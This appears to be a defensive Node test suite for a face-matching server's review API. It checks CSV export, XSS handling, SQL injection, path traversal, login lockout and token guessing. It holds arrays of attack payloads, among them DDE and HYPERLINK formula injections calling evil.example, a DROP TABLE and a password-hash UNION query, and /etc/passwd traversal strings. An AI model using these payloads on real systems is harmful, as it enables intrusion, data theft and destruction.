// Security, through the running server: CSV formula injection, XSS payloads in identity fields,
// SQL injection and path traversal through every review API parameter, password brute force
// (lockout), the compare token against guessing, and requests from off-loopback without a token.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { EventListQuerySchema } from '../../main/contracts/review-api.js';
import { MAX_FAILURES } from '../../main/store/users.js';
import { compareBody } from '../helpers/photos.js';
import { tempDir } from '../helpers/tmp.js';
import { figure } from './harness/figures.js';
import { postJson, request } from './harness/http.js';
import { ADMIN, seededDataDir, SUPERVISOR } from '../helpers/seed.js';
import { startServerProcess, type ServerProcess } from '../helpers/server-process.js';

const COMPARE = '/SophonMatch/api/compare';
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
];
const XSS = ['<img src=x onerror=alert(1)>', '<script>alert(1)</script>', '"><svg onload=alert(1)>', "javascript:alert('x')"];
const SQLI = [
  "' OR '1'='1",
  '1; DROP TABLE events; --',
  "' UNION SELECT password_hash, 1, 1 FROM users --",
  '1) OR (1=1',
  "%' OR 1=1 --",
  '\\x27 OR 1=1',
];
const TRAVERSAL = [
  '../../../../etc/passwd',
  '..%2F..%2F..%2Fetc%2Fpasswd',
  '....//....//etc/passwd',
  '/etc/passwd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..\\..\\windows\\win.ini',
];

let server: ServerProcess;
let session: string;
let body: { card_image_base64: string; face_image_base64: string };

before(async () => {
  body = await compareBody('dev/p05/img16.jpg', 'dev/p05/img17.jpg');
  server = await startServerProcess({ dataDir: seededDataDir('sophon-security'), name: 'security' });
  session = (await postJson(server.url + '/api/v1/login', ADMIN)).json.token;
  // Events whose identity fields carry formulas and markup.
  for (const [i, name] of [...FORMULAS, ...XSS].entries()) {
    const a = await postJson(server.url + COMPARE, {
      ...body,
      need_save: true,
      identity_info: { user_name: name, user_idcard: name, user_address: XSS[i % XSS.length], user_issu: FORMULAS[i % FORMULAS.length] },
    });
    assert.equal(a.status, 200, a.text);
  }
});
after(async () => server?.stop());

const get = (p: string) => request(server.url + p, { headers: { 'x-session-token': session } });

/** RFC 4180 cells of a CSV text. */
function csvCells(text: string): string[] {
  const cells: string[] = [];
  let cur = '',
    quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') ((cur += '"'), i++);
      else if (c === '"') quoted = false;
      else cur += c;
    } else if (c === '"') quoted = true;
    else if (c === ',' || c === '\n') (cells.push(cur.replace(/\r$/, '')), (cur = ''));
    else cur += c;
  }
  return cells;
}

describe('security', () => {
  it('CSV export: no cell starts with a formula trigger, masked or unmasked', async () => {
    let risky = 0,
      cells = 0;
    for (const unmasked of ['0', '1']) {
      const a = await get(`/api/v1/events.csv?unmasked=${unmasked}`);
      assert.equal(a.status, 200);
      assert.match(a.headers.get('content-type')!, /^text\/csv/);
      for (const cell of csvCells(a.text)) {
        cells++;
        // A number (a negative score, -0.1451) is written as a number on purpose: a spreadsheet reads it as one, never as a formula.
        if (/^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell)) risky++;
      }
      assert.ok(a.text.includes(`'=HYPERLINK`) || unmasked === '0', 'formulas are kept as text with a leading quote');
    }
    figure('security', 'CSV cells starting with = + - @ tab or CR', risky, `of ${cells} cells`, '==', 0);
    assert.equal(risky, 0);
  });

  it('XSS payloads come back as JSON data, never as a page: JSON content type, nosniff, no HTML anywhere', async () => {
    const list = await get('/api/v1/events?unmasked=1&limit=100');
    assert.equal(list.status, 200);
    let asHtml = 0,
      noNosniff = 0;
    const responses = [
      list,
      await get(`/api/v1/events/${list.json.events[0].id}`),
      await get('/api/v1/events.csv?unmasked=1'),
      await get('/api/v1/stats'),
      await get('/api/v1/audit'),
      await request(server.url + '/nope/<script>'),
      await request(server.url + COMPARE, { method: 'GET' }),
    ];
    for (const r of responses) {
      if (/html/i.test(r.headers.get('content-type') ?? '')) asHtml++;
      if (r.headers.get('x-content-type-options') !== 'nosniff') noNosniff++;
    }
    // The payloads are stored exactly as sent (the screens escape them; see the UI tests).
    const names = list.json.events.map((e: { identity: { user_name: string } }) => e.identity.user_name);
    for (const x of XSS) assert.ok(names.includes(x), `${x} stored verbatim`);
    figure('security', 'API answers served as HTML', asHtml, `of ${responses.length}`, '==', 0);
    figure('security', 'API answers without X-Content-Type-Options: nosniff', noNosniff, `of ${responses.length}`, '==', 0);
    assert.equal(asHtml, 0);
    assert.equal(noNosniff, 0);
  });

  it('SQL injection and path traversal through every review API parameter change nothing and leak nothing', async () => {
    const before = (await get('/api/v1/events?limit=1')).json.total as number;
    const params = Object.keys(EventListQuerySchema.shape);
    let requests = 0,
      unexpected = 0,
      leaks = 0;
    const check = (a: { status: number; text: string }, what: string) => {
      requests++;
      if (![200, 400, 401, 403, 404].includes(a.status)) (unexpected++, console.log(`  ${what} → ${a.status}`));
      if (/root:x:0:0|scrypt\$\d+\$|SQLITE_[A-Z]|sqlite_schema|\[extensions\]|\bat .*\.(ts|js):\d+/.test(a.text))
        (leaks++, console.log(`  ${what} leaked: ${a.text.slice(0, 200)}`));
    };
    for (const p of params) {
      for (const v of [...SQLI, ...TRAVERSAL]) {
        const q = `${p}=${encodeURIComponent(v)}`;
        const list = await get(`/api/v1/events?${q}`);
        check(list, `events?${q}`);
        // A filter value that matches nothing must not widen the result.
        if (list.status === 200 && ['operator', 'terminal'].includes(p)) assert.equal(list.json.total, 0, `${q} matched nothing`);
        check(await get(`/api/v1/events.csv?${q}`), `events.csv?${q}`);
        check(await get(`/api/v1/stats?${q}`), `stats?${q}`);
      }
    }
    for (const v of [...SQLI, ...TRAVERSAL]) {
      check(await get(`/api/v1/events/${encodeURIComponent(v)}`), `events/${v}`);
      check(await get(`/api/v1/events/${v}`), `events/${v} (raw)`);
      check(
        await request(server.url + `/api/v1/events/${encodeURIComponent(v)}/review`, {
          method: 'POST',
          headers: { 'content-type': 'application/json', 'x-session-token': session },
          body: JSON.stringify({ state: 'confirmed', comment: v }),
        }),
        `review ${v}`,
      );
      check(await get(`/api/v1/audit?before=${encodeURIComponent(v)}&limit=${encodeURIComponent(v)}`), `audit ${v}`);
      check(await postJson(server.url + '/api/v1/login', { username: v, password: v }), `login ${v}`);
      check(await request(server.url + '/' + v), `/${v}`);
      check(await request(server.url + '/SophonMatch/api/' + v), `/SophonMatch/api/${v}`);
    }
    const afterTotal = (await get('/api/v1/events?limit=1')).json.total as number;
    const users = await postJson(server.url + '/api/v1/login', SUPERVISOR);
    figure('security', 'SQL injection / path traversal requests through every parameter', requests, 'requests', '>=', 600);
    figure('security', 'answers other than 200/400/401/403/404', unexpected, 'answers', '==', 0);
    figure('security', 'answers leaking files, hashes or SQL errors', leaks, 'answers', '==', 0);
    figure('security', 'events changed by injection attempts', Math.abs(afterTotal - before), 'events', '==', 0);
    assert.equal(unexpected, 0);
    assert.equal(leaks, 0);
    assert.equal(afterTotal, before);
    assert.equal(users.status, 200, 'the users table is intact');
  });

  it(`password brute force: locked after ${MAX_FAILURES} failures, even the right password is refused while locked`, async () => {
    let attempts = 0,
      locked = false;
    for (let i = 0; i < 50 && !locked; i++) {
      const a = await postJson(server.url + '/api/v1/login', { username: SUPERVISOR.username, password: `guess-${i}-aaaaaaaa` });
      attempts++;
      locked = a.json?.error?.reason === 'LOCKED_OUT';
      assert.equal(a.status, 401);
    }
    const right = await postJson(server.url + '/api/v1/login', SUPERVISOR);
    figure('security', 'wrong passwords accepted before the account locks', attempts, 'attempts', '<=', MAX_FAILURES);
    assert.ok(locked && attempts <= MAX_FAILURES);
    assert.equal(right.status, 401);
    assert.equal(right.json.error.reason, 'LOCKED_OUT');
  });

  it('off loopback: refused without a token at start; with one, requests without it are refused', async (t) => {
    const data = tempDir('sophon-security-net');
    const r = spawnSync(
      process.execPath,
      ['--import', 'tsx', path.resolve('main/cli/sophonmatch.ts'), 'serve', '--host', '0.0.0.0', '--port', '0', '--data-dir', data],
      { encoding: 'utf8', timeout: 60_000 },
    );
    figure(
      'security',
      'binding off loopback without a token: start refused',
      r.status !== 0 && /token/i.test(r.stderr) ? 1 : 0,
      'refusals',
      '==',
      1,
    );
    assert.notEqual(r.status, 0);
    assert.match(r.stderr, /requires an API token/);

    const ip = Object.values(os.networkInterfaces())
      .flat()
      .find((i) => i && i.family === 'IPv4' && !i.internal)?.address;
    if (!ip) return t.skip('this machine has no non-loopback address');
    const token = 'bank-integration-token-2026-abcdef';
    const open = await startServerProcess({ dataDir: data, name: 'security', host: '0.0.0.0', args: ['--token', token] });
    try {
      const url = `http://${ip}:${open.port}${COMPARE}`;
      const without = await postJson(url, body);
      const wrong = [];
      for (let i = 0; i < 200; i++)
        wrong.push((await postJson(url, body, { authorization: `Bearer ${token.slice(0, -4)}${String(i).padStart(4, '0')}` })).status);
      const withIt = await postJson(url, body, { authorization: `Bearer ${token}` });
      figure(
        'security',
        `requests from ${ip} without or with a wrong token answered`,
        [without.status, ...wrong].filter((s) => s !== 401).length,
        'answers',
        '==',
        0,
      );
      assert.equal(without.status, 401);
      assert.ok(wrong.every((s) => s === 401));
      assert.equal(withIt.status, 200, withIt.text);
    } finally {
      await open.stop();
    }
  });
});
